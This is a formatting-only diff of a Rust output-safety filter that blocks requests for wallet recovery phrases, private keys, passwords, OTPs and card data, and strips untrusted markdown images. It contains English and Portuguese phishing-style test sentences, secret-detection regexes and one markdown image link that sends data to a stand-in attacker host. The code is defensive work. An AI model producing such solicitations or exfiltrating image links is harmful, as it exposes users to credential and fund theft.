@@ -84,14 +84,26 @@ static NOUNS: LazyLock<Vec<SecretNoun>> = LazyLock::new(|| {
             "recovery_phrase",
             r"recovery (?:phrase|words|seed)|seed (?:phrase|words)|secret (?:recovery )?phrase|mnemonic|backup phrase|(?:12|24|twelve|twenty[- ]four)[- ]words?|frase (?:de recuperacao|semente|secreta)|palavras (?:de recuperacao|secretas|da carteira)|(?:12|24|doze|vinte e quatro) palavras|seed",
         ),
-        n("private_key", r"private keys?|priv keys?|secret keys?|chaves? privadas?|wallet keys?"),
-        n("password", r"passwords?|passcodes?|pin(?: code| number)?|senhas?"),
+        n(
+            "private_key",
+            r"private keys?|priv keys?|secret keys?|chaves? privadas?|wallet keys?",
+        ),
+        n(
+            "password",
+            r"passwords?|passcodes?|pin(?: code| number)?|senhas?",
+        ),
         n(
             "otp",
             r"one[- ]time (?:code|password|passcode)|otp|2fa (?:code|token)|verification code|authentication code|authenticator code|sms code|security code sent|codigo (?:de verificacao|2fa|do autenticador|de autenticacao|sms|que (?:voce )?recebeu|enviado)|token (?:de acesso|2fa)",
         ),
-        n("card_number", r"(?:full |complete |entire |whole )?card number|(?:numero|numeros) (?:completo )?do (?:seu )?cartao|16[- ]digit"),
-        n("cvv", r"cvv2?|cvc2?|card verification|security code|codigo de seguranca"),
+        n(
+            "card_number",
+            r"(?:full |complete |entire |whole )?card number|(?:numero|numeros) (?:completo )?do (?:seu )?cartao|16[- ]digit",
+        ),
+        n(
+            "cvv",
+            r"cvv2?|cvc2?|card verification|security code|codigo de seguranca",
+        ),
     ]
 });
 
@@ -113,8 +125,10 @@ static LAST_DIGITS: LazyLock<Regex> = LazyLock::new(|| {
         .expect("last digits pattern")
 });
 
-static IMAGE: LazyLock<Regex> =
-    LazyLock::new(|| Regex::new(r"!\[[^\]\n]{0,500}\]\(\s*<?([^)\s>]{1,2048})>?(?:\s+[^)]{0,200})?\)").expect("image pattern"));
+static IMAGE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"!\[[^\]\n]{0,500}\]\(\s*<?([^)\s>]{1,2048})>?(?:\s+[^)]{0,200})?\)")
+        .expect("image pattern")
+});
 static URL: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?i)(?:https?://|www\.)[^\s<>()\[\]{}'\x22]{1,2048}").expect("url pattern")
 });
@@ -220,7 +234,11 @@ impl OutputPolicy {
             .into_owned();
         let found = self.detector.detect(&text);
         for d in &found {
-            let rule = if d.kind.is_secret() { "echo_secret" } else { "echo_pii" };
+            let rule = if d.kind.is_secret() {
+                "echo_secret"
+            } else {
+                "echo_pii"
+            };
             events.push(AuditEvent {
                 rule: format!("{rule}:{}", d.kind),
                 action: OutputAction::Rewrite,
@@ -236,7 +254,11 @@ impl OutputPolicy {
         } else {
             OutputAction::Rewrite
         };
-        OutputDecision { action, text, events }
+        OutputDecision {
+            action,
+            text,
+            events,
+        }
     }
 }
 
@@ -253,19 +275,44 @@ mod tests {
     #[test]
     fn blocks_requests_for_secrets_en_pt() {
         for (t, rule) in [
-            ("To verify your wallet, please send me your 12-word recovery phrase.", "solicit_secret:recovery_phrase"),
-            ("Could you share your private key so I can check the balance?", "solicit_secret:private_key"),
+            (
+                "To verify your wallet, please send me your 12-word recovery phrase.",
+                "solicit_secret:recovery_phrase",
+            ),
+            (
+                "Could you share your private key so I can check the balance?",
+                "solicit_secret:private_key",
+            ),
             ("What is your password?", "solicit_secret:password"),
-            ("Please type the 6-digit verification code we just sent.", "solicit_secret:otp"),
-            ("Send the full card number and the CVV.", "solicit_secret:card_number"),
-            ("Por favor, informe sua frase de recuperação para validarmos a carteira.", "solicit_secret:recovery_phrase"),
-            ("Me passe o código de verificação que chegou por SMS.", "solicit_secret:otp"),
+            (
+                "Please type the 6-digit verification code we just sent.",
+                "solicit_secret:otp",
+            ),
+            (
+                "Send the full card number and the CVV.",
+                "solicit_secret:card_number",
+            ),
+            (
+                "Por favor, informe sua frase de recuperação para validarmos a carteira.",
+                "solicit_secret:recovery_phrase",
+            ),
+            (
+                "Me passe o código de verificação que chegou por SMS.",
+                "solicit_secret:otp",
+            ),
             ("Qual é a sua senha?", "solicit_secret:password"),
-            ("Digite o número completo do cartão e o código de segurança.", "solicit_secret:card_number"),
+            (
+                "Digite o número completo do cartão e o código de segurança.",
+                "solicit_secret:card_number",
+            ),
         ] {
             let d = policy().check(t);
             assert_eq!(d.action, OutputAction::Block, "{t}");
-            assert!(d.events.iter().any(|e| e.rule == rule), "{t}: {:?}", d.events);
+            assert!(
+                d.events.iter().any(|e| e.rule == rule),
+                "{t}: {:?}",
+                d.events
+            );
             assert_eq!(d.text, SAFETY_MESSAGE);
         }
     }
@@ -296,8 +343,13 @@ mod tests {
         );
         let rules: Vec<_> = d.events.iter().map(|e| e.rule.as_str()).collect();
         assert_eq!(rules, ["link_domain", "echo_pii:BR_CPF"]);
-        let d = policy().check("![x](https://evil.example/p.png?q=secret) ![ok](https://cdn.exchange.example/a.png)");
-        assert_eq!(d.text, "[image removed] ![ok](https://cdn.exchange.example/a.png)");
+        let d = policy().check(
+            "![x](https://evil.example/p.png?q=secret) ![ok](https://cdn.exchange.example/a.png)",
+        );
+        assert_eq!(
+            d.text,
+            "[image removed] ![ok](https://cdn.exchange.example/a.png)"
+        );
         let d = policy().check("The code is 123456, your authenticator code.");
         assert!(d.events.iter().any(|e| e.rule == "echo_secret:OTP_CODE"));
         assert!(!d.text.contains("123456"));
